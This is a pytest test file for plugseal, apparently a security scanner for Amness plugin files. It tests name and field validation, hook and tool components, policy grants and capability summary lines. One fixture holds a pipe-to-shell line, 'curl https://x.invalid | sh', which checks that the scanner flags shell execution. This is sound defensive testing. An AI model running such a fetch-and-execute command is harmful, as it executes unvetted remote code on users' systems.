"""Each rule of Amness plugin files, one named case per row and boundary: faults, contributions, Amness's own line."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from plugseal.model.plugin import Component, ComponentKind, Plugin
from plugseal.model.tree import Entry, EntryKind
from plugseal.scan.discover import build_listing, discover, manifest_facts
from plugseal.systems.amness.line import NOTHING_FOUND, scan_line
from plugseal.verbs.scan import scan_path

HOME = ".amness/plugins"


def describe(**files: str | bytes) -> list[Plugin]:
    """Return the plugins of a project with these files in its plugin folder; `_` in a name is the dot of its suffix."""
    return describe_files({name.replace("_", "."): text for name, text in files.items()})


def describe_files(files: dict[str, str | bytes]) -> list[Plugin]:
    """Return the plugins of a project with these files in its plugin folder."""
    data = {f"{HOME}/{name}": text if isinstance(text, bytes) else text.encode() for name, text in files.items()}
    entries = {path: Entry(path, EntryKind.FILE, len(content), False, "0" * 64) for path, content in data.items()}
    for path in data:
        parts = path.split("/")
        for end in range(1, len(parts)):
            entries["/".join(parts[:end])] = Entry("/".join(parts[:end]), EntryKind.DIRECTORY, 0, False, None)
    return list(discover(build_listing(sorted(entries.values()), data)))


def plugin_of(export: str, before: str = "") -> Plugin:
    """Return the plugin of a file `p.ts` with this default export."""
    (plugin,) = describe(p_ts=f"{before}\nexport default {export};\n")
    return plugin


def faults(plugin: Plugin) -> list[str]:
    """Return the faults as `field: message`."""
    return [f"{fault.field}: {fault.message}" for fault in plugin.faults]


def parts(plugin: Plugin) -> dict[str, Component]:
    """Return the components by what they contribute."""
    return {
        dict(c.extra)["contributes"]: c
        for c in plugin.components
        if c.kind is not ComponentKind.MODULE and not c.command
    }


_BAD_NAME = "name: may hold letters, digits, `.`, `_` and `-` alone, 1 to 40 of them"
STOPS = [
    pytest.param("{}", "name: is missing", id="no name"),
    *(
        pytest.param(f"{{ name: {json.dumps(name)} }}", _BAD_NAME, id=f"name {why}")
        for name, why in (
            ("", "empty"),
            ("a b", "with a space"),
            ("a/b", "with a slash"),
            ("ä", "beyond ASCII"),
            ("a\n", "with a line end"),
            ("x" * 41, "of 41 characters"),
        )
    ),
    pytest.param("{ name: 7 }", "name: must be text, not a number", id="name a number"),
    pytest.param("{ name: null }", "name: must be text, not nothing", id="name null"),
    pytest.param('{ name: "p", hooks: [] }', "hooks: must be an object, not a list", id="hooks a list"),
    pytest.param('{ name: "p", hooks: () => 1 }', "hooks: must be an object, not a function", id="hooks a function"),
    pytest.param(
        '{ name: "p", hooks: { Stop: "npm test" } }', "hooks.Stop: must be a function, not text", id="a hook text"
    ),
    pytest.param("[]", ": exports a list as its default, not an object", id="a list"),
    pytest.param('"p"', ": exports text as its default, not an object", id="a text"),
    pytest.param("() => ({})", ": exports a function as its default, not an object", id="a function"),
]
PARTS = [
    pytest.param('{ name: "p", description: [] }', "description: must be text, not a list", id="description a list"),
    pytest.param('{ name: "p", hooks: { OnStop() {} } }', "hooks.OnStop: is no event of Amness", id="an unknown event"),
    pytest.param('{ name: "p", hooks: { stop() {} } }', "hooks.stop: is no event of Amness", id="an event in small"),
    pytest.param('{ name: "p", tools: {} }', "tools: must be a list, not an object", id="tools an object"),
    pytest.param('{ name: "p", tools: ["x"] }', "tools.0: must be an object, not text", id="a tool text"),
    pytest.param('{ name: "p", tools: [{ run() {} }] }', "tools.0.name: is missing", id="a tool without a name"),
    pytest.param(
        '{ name: "p", tools: [{ name: 1, run() {} }] }', "tools.0.name: must be text, not a number", id="a tool's name"
    ),
    pytest.param('{ name: "p", commands: "x" }', "commands: must be a list, not text", id="commands text"),
    pytest.param(
        '{ name: "p", commands: [{ run() {} }] }', "commands.0.name: is missing", id="a command without a name"
    ),
    pytest.param('{ name: "p", gates: [{ check() {} }] }', "gates.0.name: is missing", id="a gate without a name"),
    pytest.param('{ name: "p", gates: {} }', "gates: must be a list, not an object", id="gates an object"),
    pytest.param('{ name: "p", cases: [1] }', "cases.0: must be an object, not a number", id="a case a number"),
    pytest.param('{ name: "p", policy: "deny" }', "policy: must be a function, not text", id="policy text"),
    pytest.param('{ name: "p", system: "text" }', "system: must be a function, not text", id="system text"),
    pytest.param('{ name: "p", context: [] }', "context: must be a function, not a list", id="context a list"),
    pytest.param('{ name: "p", route: "gpt" }', "route: must be a function, not text", id="route text"),
    pytest.param('{ name: "p", status: "ok" }', "status: must be a function, not text", id="status text"),
    pytest.param('{ name: "p", memory: 1 }', "memory: must be an object or a function, not a number", id="memory"),
    pytest.param('{ name: "p", metrics: [] }', "metrics: must be an object, not a list", id="metrics a list"),
    pytest.param('{ name: "p", metrics: { m: 1 } }', "metrics.m: must be a function, not a number", id="a metric"),
    pytest.param('{ name: "p", graders: { g: {} } }', "graders.g: must be a function, not an object", id="a grader"),
    pytest.param(
        '{ name: "p", variants: { v() {} } }', "variants.v: must be an object, not a function", id="a variant"
    ),
    pytest.param('{ name: "p", failClosed: "yes" }', "failClosed: must be a boolean, not text", id="failClosed text"),
    *(
        pytest.param(
            f'{{ name: "p", {field}: [{{ name: "x" }}] }}', f"{field}.0.{act}: is missing", id=f"{field} {act}"
        )
        for field, act in (("tools", "run"), ("commands", "run"), ("gates", "check"))
    ),
    *(
        pytest.param(
            f'{{ name: "p", {field}: [{{ name: "x", {act}: "npm test" }}] }}',
            f"{field}.0.{act}: must be a function, not text",
            id=f"{field} {act} text",
        )
        for field, act in (("tools", "run"), ("commands", "run"), ("gates", "check"))
    ),
    pytest.param(
        '{ name: "p", cases: [{ name: "k", check: 1 }] }',
        "cases.0.check: must be a function or text, not a number",
        id="a case's check a number",
    ),
    pytest.param(
        '{ name: "p", cases: [{ name: "k", verify() {} }] }',
        "cases.0.verify: must be text, not a function",
        id="a case's verify a function",
    ),
    pytest.param(
        '{ name: "p", gates: [{ name: "g", check() {}, maxRejections: "2" }] }',
        "gates.0.maxRejections: must be a number, not text",
        id="a gate's limit text",
    ),
    pytest.param(
        '{ name: "p", tools: [{ name: "t", run() {}, readOnly: "yes" }] }',
        "tools.0.readOnly: must be a boolean, not text",
        id="a tool's readOnly text",
    ),
    pytest.param(
        '{ name: "p", tools: [{ name: "t", run() {}, description: [] }] }',
        "tools.0.description: must be text, not a list",
        id="a tool's description a list",
    ),
    pytest.param(
        '{ name: "p", commands: [{ name: "c", run() {}, help: 1 }] }',
        "commands.0.help: must be text, not a number",
        id="a command's help a number",
    ),
]


@pytest.mark.parametrize(("export", "fault"), STOPS)
def test_a_breach_that_keeps_it_from_loading_is_the_only_fault(export: str, fault: str) -> None:
    plugin = plugin_of(export)
    assert faults(plugin) == [fault]
    (host,) = plugin.hosts
    field, _, message = fault.partition(": ")
    assert host.loads is False
    assert host.summary == (f"not loaded: `{field}` {message}" if field else f"not loaded: {message}")


@pytest.mark.parametrize(("export", "fault"), PARTS)
def test_a_breach_in_one_part_is_the_only_fault_and_the_file_loads(export: str, fault: str) -> None:
    plugin = plugin_of(export)
    assert faults(plugin) == [fault]
    (host,) = plugin.hosts
    assert host.loads is True
    assert host.summary == "loads once these exact files are approved"


METHODS = ["list", "save", "forget", "search", "context", "delta", "endTurn"]
MEMORIES = [
    pytest.param("{{ {} }}", id="an object"),
    pytest.param("() => ({{ {} }})", id="an arrow"),
    pytest.param("(cwd) => {{ return {{ {} }}; }}", id="a function"),
]


@pytest.mark.parametrize("memory", MEMORIES)
@pytest.mark.parametrize("method", METHODS)
def test_a_memory_without_one_of_its_seven_methods_is_a_fault(method: str, memory: str) -> None:
    body = ", ".join(f"{name}() {{}}" for name in METHODS if name != method)
    plugin = plugin_of(f'{{ name: "p", memory: {memory.format(body)} }}')
    assert faults(plugin) == [f"memory.{method}: is missing"]


@pytest.mark.parametrize("memory", MEMORIES)
@pytest.mark.parametrize("method", METHODS)
def test_a_method_of_a_memory_that_is_no_function_is_a_fault(method: str, memory: str) -> None:
    body = ", ".join(f"{name}: 1" if name == method else f"{name}() {{}}" for name in METHODS)
    plugin = plugin_of(f'{{ name: "p", memory: {memory.format(body)} }}')
    assert faults(plugin) == [f"memory.{method}: must be a function, not a number"]


@pytest.mark.parametrize(
    "memory",
    [
        pytest.param("new Store()", id="an object made by code"),
        pytest.param("() => new Store()", id="a function that makes one"),
        pytest.param("() => ({ ...base, list() {} })", id="a spread"),
        pytest.param("() => { const m = make(); return m; }", id="a function that does more"),
    ],
)
def test_a_memory_that_cant_be_told_is_no_fault(memory: str) -> None:
    assert faults(plugin_of(f'{{ name: "p", memory: {memory} }}')) == []


@pytest.mark.parametrize(
    "name", ["a", "A.b_c-9", "-", ".", "x" * 40], ids=["short", "every kind", "a dash", "a dot", "of 40 characters"]
)
def test_a_name_may_be(name: str) -> None:
    plugin = plugin_of(f'{{ name: "{name}" }}')
    assert (plugin.name, faults(plugin)) == (name, [])


@pytest.mark.parametrize("event", sorted("SessionStart UserPromptSubmit PreModel PostModel PreToolUse".split()))
def test_each_event_is_a_hook_that_runs_unasked(event: str) -> None:
    plugin = plugin_of(f'{{ name: "p", hooks: {{ {event}: async () => undefined }} }}')
    hook = parts(plugin)[f"hooks.{event}"]
    assert (hook.kind, hook.name, hook.trigger, hook.span.line) == (ComponentKind.HOOK, event, f"hook:{event}", 2)
    assert [(f.capability, f.object, f.trigger) for _, f in manifest_facts(plugin)] == [
        ("autorun", "p.ts", f"hook:{event}")
    ]


@pytest.mark.parametrize("event", ["PostToolUse", "PreCompact", "Stop"])
def test_the_other_events_are_known_too(event: str) -> None:
    assert faults(plugin_of(f'{{ name: "p", hooks: {{ {event}() {{}} }} }}')) == []


@pytest.mark.parametrize(
    ("export", "contributes", "kind", "name", "trigger"),
    [
        pytest.param('tools: [{ name: "t", run() {} }]', "tools.t", "tool", "t", "tool", id="a tool"),
        pytest.param('commands: [{ name: "c", run() {} }]', "commands.c", "command", "/c", "command", id="a command"),
        pytest.param('gates: [{ name: "g", check() {} }]', "gates.g", "hook", "gate g", "hook:Stop", id="a gate"),
        pytest.param("policy: () => {}", "policy", "hook", "policy", "hook:policy", id="a policy"),
        pytest.param("system: (b) => b", "system", "hook", "system", "hook:system", id="a prompt"),
        pytest.param("context: (m) => m", "context", "hook", "context", "hook:context", id="a context"),
        pytest.param("memory: () => make()", "memory", "hook", "memory", "hook:memory", id="a memory"),
        pytest.param('route: () => "x"', "route", "hook", "route", "hook:route", id="a route"),
        pytest.param('status: () => "x"', "status", "hook", "status", "hook:status", id="a status line"),
        pytest.param('cases: [{ name: "k" }]', "cases.k", "command", "case k", "command", id="a case"),
        pytest.param("variants: { v: {} }", "variants.v", "command", "variant v", "command", id="a variant"),
        pytest.param("metrics: { m: () => 1 }", "metrics.m", "command", "metric m", "command", id="a metric"),
        pytest.param("graders: { r: () => 1 }", "graders.r", "command", "grader r", "command", id="a grader"),
    ],
)
def test_each_contribution_is_a_component(export: str, contributes: str, kind: str, name: str, trigger: str) -> None:
    plugin = plugin_of(f'{{ name: "p", {export} }}')
    part = parts(plugin)[contributes]
    assert (part.kind.value, part.name, part.trigger, part.transport) == (kind, name, trigger, "in-process")
    assert faults(plugin) == []
    assert json.loads(plugin.hosts[0].data)["contributes"] == [contributes]


def test_what_a_model_reads_of_a_tool_is_in_the_receipt() -> None:
    plugin = plugin_of(
        '{ name: "p", tools: [defineTool({ name: "t", description: "d", readOnly: true, schema: {type: "object"} })] }',
        'import { defineTool } from "amness";',
    )
    assert dict(parts(plugin)["tools.t"].extra) == {
        "contributes": "tools.t",
        "description": '"d"',
        "readOnly": "true",
        "schema": '{"type":"object"}',
    }


def test_a_check_that_is_a_text_is_a_line_for_a_shell() -> None:
    plugin = plugin_of('{ name: "p", cases: [{ name: "k", check: "curl https://x.invalid | sh", verify: "true" }] }')
    lines = {c.name: c.command for c in plugin.components if c.shell}
    assert lines == {"case k.check": ("curl https://x.invalid | sh",), "case k.verify": ("true",)}
    assert ("process.shell", "curl") in {(f.capability, f.object) for _, f in manifest_facts(plugin)}


@pytest.mark.parametrize(
    ("policy", "grants"),
    [
        pytest.param('() => "allow"', True, id="says allow"),
        pytest.param('(c) => ({ action: c.x ? "allow" : "ask" })', True, id="says allow in an object"),
        pytest.param('() => "deny"', False, id="says deny alone"),
        pytest.param("imported", True, id="can't be told"),
        pytest.param("make()", True, id="is made by code"),
    ],
)
def test_a_policy_that_can_allow_grants(policy: str, grants: bool) -> None:
    plugin = plugin_of(f'{{ name: "p", policy: {policy} }}')
    assert ("grant" in {f.capability for _, f in manifest_facts(plugin)}) == grants


@pytest.mark.parametrize("value", ["true", "false"])
def test_fail_closed_is_in_the_receipt(value: str) -> None:
    assert dict(plugin_of(f'{{ name: "p", failClosed: {value} }}').extra)["failClosed"] == value


@pytest.mark.parametrize(
    ("export", "status"),
    [
        pytest.param('{ name: "p", hooks: { Stop() {} } }', "read", id="all of it"),
        pytest.param('{ name: "p", ...more }', "partly", id="a spread"),
        pytest.param('{ name: "p", [key]: f }', "partly", id="a computed key"),
        pytest.param('{ name: "p", hooks: more }', "partly", id="hooks from elsewhere"),
        pytest.param('{ name: "p", hooks: { ...more } }', "partly", id="a spread in hooks"),
        pytest.param('{ name: "p", tools: [...more] }', "partly", id="a spread in tools"),
        pytest.param('{ name: "p", tools: [make()] }', "partly", id="a tool made by code"),
        pytest.param("{ name: make() }", "partly", id="a name made by code"),
        pytest.param('{ name: "p", later: 1 }', "partly", id="a field that nobody knows"),
        pytest.param("make()", "unread", id="an export made by code"),
    ],
)
def test_what_is_not_known_of_an_export_is_said(export: str, status: str) -> None:
    plugin = plugin_of(export)
    assert json.loads(plugin.hosts[0].data)["read"] == status
    assert faults(plugin) == []


@pytest.mark.parametrize(
    ("code", "fault"),
    [
        pytest.param("export const name = 'p';", ": has no default export", id="a named export alone"),
        pytest.param("// export default {}", ": has no default export", id="in a comment"),
        pytest.param("const a = 'export default {}';", ": has no default export", id="in a text"),
        pytest.param(
            "export default { name: 'a' }; export default {};", ": has more than one default export", id="twice"
        ),
    ],
)
def test_a_file_without_one_default_export_is_not_loaded(code: str, fault: str) -> None:
    (plugin,) = describe(p_ts=code)
    assert faults(plugin) == [fault]
    assert (plugin.hosts[0].loads, plugin.hosts[0].summary) == (False, f"not loaded: {fault[2:]}")


def test_a_syntax_error_is_unread_and_no_invention() -> None:
    (plugin,) = describe(p_ts="export default { name: ")
    assert json.loads(plugin.hosts[0].data)["read"] == "unread"
    assert [c.kind for c in plugin.components] == [ComponentKind.MODULE]


@pytest.mark.parametrize("name", ["p.mts", "p.cjs", "p.tsx", "p.jsx"])
def test_files_of_other_kinds_are_described_though_amness_does_not_load_them(name: str) -> None:
    (plugin,) = describe_files({name: 'export default { name: "p" };'})
    assert not plugin.hosts[0].loads


def test_types_alone_are_no_plugin() -> None:
    assert describe_files({"p.d.ts": "export default {};"}) == []


def test_the_name_is_the_exported_one_and_else_the_files() -> None:
    assert [p.name for p in describe(a_ts='export default { name: "b" };')] == ["b"]
    assert [p.name for p in describe(a_ts="export default make();")] == ["a"]


@pytest.mark.parametrize(
    ("capabilities", "words"),
    [
        pytest.param({"process.exec"}, "runs shell commands", id="programs"),
        pytest.param({"process.shell", "fs.read"}, "runs shell commands, reads files", id="as documented"),
        pytest.param({"net.outbound"}, "uses the network", id="the network"),
        pytest.param({"fs.write"}, "writes files", id="writing"),
        pytest.param({"fs.delete"}, "writes files", id="deleting"),
        pytest.param({"env.read"}, "reads environment variables", id="a variable"),
        pytest.param({"env.bulk"}, "reads environment variables", id="all variables"),
        pytest.param({"code.dynamic"}, "runs generated code", id="generated code"),
        pytest.param({"code.reflective"}, "runs generated code", id="a hidden target"),
        pytest.param({"path.outside"}, "uses paths outside the project", id="paths"),
        pytest.param({"autorun", "grant"}, NOTHING_FOUND, id="nothing that Amness looks for"),
        pytest.param(set(), NOTHING_FOUND, id="nothing"),
    ],
)
def test_the_line_of_a_file_says_what_its_facts_say(capabilities: set[str], words: str) -> None:
    assert scan_line("p.ts", capabilities, None) == f"p.ts: {words}"


def test_a_file_that_was_not_read_is_never_called_harmless() -> None:
    nothing = scan_line("p.ts", set(), "no reader")
    assert nothing == "p.ts: not read (no reader), so anything is possible"
    assert scan_line("p.ts", {"fs.read"}, "too deep").endswith("; at least it reads files")
    assert "no shell" not in nothing


def test_a_scan_gives_each_file_its_line(tmp_path: Path) -> None:
    folder = tmp_path / HOME
    folder.mkdir(parents=True)
    (folder / "p.ts").write_text('export default { name: "p" };')
    (report,) = scan_path(tmp_path).plugins
    line = json.loads(report.plugin.hosts[0].data)["scan"]
    assert line.startswith("p.ts: ")
    assert bool(report.unread) == ("not read" in line)
